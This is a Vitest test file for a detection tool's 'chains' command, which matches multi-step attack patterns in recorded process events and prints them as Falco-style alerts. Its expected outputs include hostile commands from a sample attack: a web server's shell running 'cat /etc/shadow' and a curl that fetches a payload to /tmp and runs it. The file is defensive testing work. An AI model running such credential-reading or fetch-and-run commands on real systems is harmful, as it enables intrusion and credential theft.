import { writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCaseReadOnly } from '../../src/db/open.js';
import { runCli } from '../support/run-cli.js';
import { tempDir } from '../support/temp-case.js';
import { BUNDLED_CHAINS } from './run-chains.js';

/** `pedigree chains` end to end on the bundled story. */

const SAMPLE = fileURLToPath(new URL('../../samples/story.jsonl', import.meta.url));
const dir = tempDir('pedigree-chains-cli-');
const db = dir.path('story.db');
const env = { TZ: 'UTC' };
const PAYLOAD = 'Web service shell fetches and runs a payload';

beforeAll(() => {
  const r = runCli(['import', SAMPLE, '--db', db, '-q']);
  expect(r.code, r.stderr).toBe(0);
});
afterAll(() => dir.cleanup());

describe('pedigree chains', () => {
  it('run: prints each match as a Falco line and its steps with lineage paths, and stores it once', () => {
    const r = runCli(['chains', 'run', BUNDLED_CHAINS, '--db', db], { env });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('9 chains run, 2 matches');
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^2024-11-28T13:20:16\.\d{9}Z: Error Credential file read under a service's shell \(command=cat \/etc\/shadow /);
    expect(lines[3]).toMatch(/^2024-11-28T13:20:16\.\d{9}Z: Critical Payload fetched and run by a service's shell \(run=x exepath=\/tmp\/x /);
    expect(lines.slice(4).map((l) => l.replace(/exec \d+\s+/, ''))).toEqual([
      '  shell  sh,4001    nginx,2351 → sh,4001',
      '  fetch  curl,4002  sh,4001 → curl,4002',
      '  run    x,4005     sh,4001 → x,4005',
    ]);
    runCli(['chains', 'run', BUNDLED_CHAINS, '--db', db, '-q'], { env });
    const ro = openCaseReadOnly(db);
    const chains = ro.prepare('SELECT chain, priority, container_id, output FROM chains ORDER BY end_ns').all() as Record<string, unknown>[];
    const steps = ro
      .prepare(
        `SELECT s.step, s.relation, e.name, e.pid, s.path_json FROM chains c JOIN chain_steps s USING (chain_match_id) JOIN execs e ON e.exec_id = s.exec_id
         WHERE c.chain = ? ORDER BY s.step_index`,
      )
      .all(PAYLOAD) as { step: string; relation: string | null; name: string; pid: bigint; path_json: string }[];
    const pathNames = (json: string): string[] =>
      (JSON.parse(json) as string[]).map((id) => (ro.prepare('SELECT name FROM execs WHERE exec_id = ?').get(BigInt(id)) as { name: string }).name);
    expect(chains.map((c) => [c.chain, c.priority, c.container_id])).toEqual([
      ["Credential files read by a service's shell", 'Error', '3f9a1c0e2b7d'],
      [PAYLOAD, 'Critical', '3f9a1c0e2b7d'],
    ]);
    expect(steps.map((s) => [s.step, s.relation, s.name, s.pid, pathNames(s.path_json)])).toEqual([
      ['shell', null, 'sh', 4001n, ['nginx', 'sh']],
      ['fetch', 'descendant_of', 'curl', 4002n, ['sh', 'curl']],
      ['run', 'descendant_of', 'x', 4005n, ['sh', 'x']],
    ]);
    ro.close();
  });

  it('the canned query chain-steps lists the stored matches step by step', () => {
    const r = runCli(['queries', 'run', 'chain-steps', '--param', `chain=${PAYLOAD}`, '--db', db, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const rows = JSON.parse(r.stdout) as { step: string; relation: string | null; name: string; pid: number; container_id: string }[];
    expect(rows.map((x) => [x.step, x.relation, x.name, x.pid, x.container_id])).toEqual([
      ['shell', null, 'sh', 4001, '3f9a1c0e2b7d'],
      ['fetch', 'descendant_of', 'curl', 4002, '3f9a1c0e2b7d'],
      ['run', 'descendant_of', 'x', 4005, '3f9a1c0e2b7d'],
    ]);
    const all = JSON.parse(runCli(['queries', 'run', 'chain-steps', '--param', 'chain=', '--db', db, '--json']).stdout) as unknown[];
    expect(all).toHaveLength(5);
  });

  it('run --json: Falco alert keys plus the steps', () => {
    const r = runCli(['chains', 'run', BUNDLED_CHAINS, '--db', db, '--json', '--no-save', '-q', '--chain', PAYLOAD], { env });
    expect(r.code, r.stderr).toBe(0);
    const obj = JSON.parse(r.stdout.trim()) as {
      rule: string;
      priority: string;
      steps: { step: string; pid: number; path: { name: string }[] }[];
      output_fields: Record<string, unknown>;
      time: string;
      start_time: string;
    };
    expect(obj.rule).toBe(PAYLOAD);
    expect(obj.priority).toBe('Critical');
    expect(obj.start_time).toBe('2024-11-28T13:20:15.016500000Z');
    expect(obj.steps.map((s) => [s.step, s.pid, s.path.map((p) => p.name)])).toEqual([
      ['shell', 4001, ['nginx', 'sh']],
      ['fetch', 4002, ['sh', 'curl']],
      ['run', 4005, ['sh', 'x']],
    ]);
    expect(obj.output_fields).toMatchObject({
      'fetch.proc.cmdline': 'curl -s -o /tmp/x http://203.0.113.7/x',
      'run.proc.exepath': '/tmp/x',
      'container.name': 'nginx',
    });
  });

  it('run --since/--until: every step must fall inside the interval', () => {
    const whole = runCli(['chains', 'run', '--db', db, '--no-save', '-q', '--since', '2024-11-28T13:20:15Z', '--until', '2024-11-28T13:20:17Z'], { env });
    expect(whole.stdout.match(/^\S+: (Critical|Error) /gm)).toHaveLength(2);
    // The shell started at 13:20:15.0165; from 13:20:15.5 on, only later steps remain.
    const cut = runCli(['chains', 'run', '--db', db, '--no-save', '--since', '2024-11-28T13:20:15.5Z'], { env });
    expect(cut.code, cut.stderr).toBe(0);
    expect(cut.stdout).toBe('');
    expect(cut.stderr).toContain('9 chains run, 0 matches');
  });

  it('check: every bundled chain is evaluable', () => {
    const r = runCli(['chains', 'check', BUNDLED_CHAINS, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const rows = JSON.parse(r.stdout) as { chain: string; verdict: string }[];
    expect(rows).toHaveLength(9);
    expect(rows.every((x) => x.verdict === 'evaluable')).toBe(true);
  });

  it('check: a chain reading file events is not evaluable, with the step and reason', () => {
    const file = dir.path('fd-chain.yaml');
    writeFileSync(
      file,
      `- chain: Shell then open
  desc: d
  within: 1m
  steps:
    - step: shell
      condition: evt.type = execve and proc.name = sh
    - step: open
      condition: evt.type = openat and fd.name = /etc/shadow
      same_process: shell
  output: x
  priority: WARNING
`,
    );
    const r = runCli(['chains', 'check', file, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const [row] = JSON.parse(r.stdout) as { verdict: string; detail: string }[];
    expect(row?.verdict).toBe('not-evaluable');
    expect(row?.detail).toMatch(/^step 'open': fd\.name: /);
  });

  it('explain: steps, relations, window and SQL whose literals are all parameters', () => {
    const r = runCli(['chains', 'explain', BUNDLED_CHAINS, '--chain', PAYLOAD, '--json']);
    expect(r.code, r.stderr).toBe(0);
    const info = JSON.parse(r.stdout) as { sql: string; parameters: unknown[]; steps: { step: string; relations: string }[]; within_ns: string };
    expect(info.steps.map((s) => [s.step, s.relations])).toEqual([
      ['shell', ''],
      ['fetch', 'descendant_of shell'],
      ['run', 'descendant_of shell'],
    ]);
    expect(info.within_ns).toBe('600000000000');
    expect(info.sql).toContain('WITH RECURSIVE');
    expect(info.sql).not.toMatch(/curl|sha256sum|nginx|\/tmp\/|600000000000/);
    expect(info.parameters).toContain('/tmp/');
    expect(info.parameters).toContain('600000000000');
  });

  it('a broken chain file stops with the file, line and reason, and exit code 65', () => {
    const file = dir.path('broken.yaml');
    writeFileSync(
      file,
      `- chain: Broken
  desc: d
  within: 10 minutes
  steps:
    - step: a
      condition: proc.name = sh
    - step: b
      condition: proc.name = curl
      descendant_of: c
  output: x
  priority: WARNING
`,
    );
    const r = runCli(['chains', 'run', file, '--db', db]);
    expect(r.code).toBe(65);
    expect(r.stderr).toContain(`${file}:3:11: error LOAD_ERR_YAML_VALIDATE (chain 'Broken'): cannot read 'within: 10 minutes'`);
    expect(r.stderr).toContain(
      `${file}:9:22: error LOAD_ERR_YAML_VALIDATE (chain 'Broken'): 'descendant_of: c' must name an earlier step (earlier steps: 'a')`,
    );
  });

  it('run on a file without chains says so', () => {
    const r = runCli(['chains', 'run', fileURLToPath(new URL('../../samples/rules/spawn-shell-in-container.yaml', import.meta.url)), '--db', db]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('0 chains run, 0 matches; no chain items in');
  });
});
